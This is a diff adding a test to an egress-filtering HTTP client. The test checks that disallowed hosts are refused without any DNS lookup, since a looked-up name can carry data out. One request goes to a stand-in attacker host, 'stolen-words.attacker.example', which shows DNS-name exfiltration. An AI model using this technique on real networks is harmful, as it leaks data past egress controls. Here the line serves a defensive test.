@@ -182,4 +182,16 @@ describe('the operator', () => {
     expect(await textOf(await get(client, `${allowed.url}/`))).toBe('allowed');
     expect(await failureOf(get(client, 'https://8.8.8.8/'))).toMatchObject({ message: CLOSED });
   });
+
+  it('has no name looked up that stays closed anyway: a name can carry words out', async () => {
+    const asked: string[] = [];
+    const resolve = (host: string): Promise<ReturnType<typeof at>> => {
+      asked.push(host);
+      return Promise.resolve(at('8.8.8.8'));
+    };
+    const client = clientWith({ EGRESS_PUBLIC: 'false', EGRESS_ALLOW: '*.corp' }, resolve);
+    for (const host of ['stolen-words.attacker.example', 'corp'])
+      expect(await failureOf(get(client, `http://${host}/`))).toMatchObject({ message: CLOSED });
+    expect(asked).toEqual([]);
+  });
 });
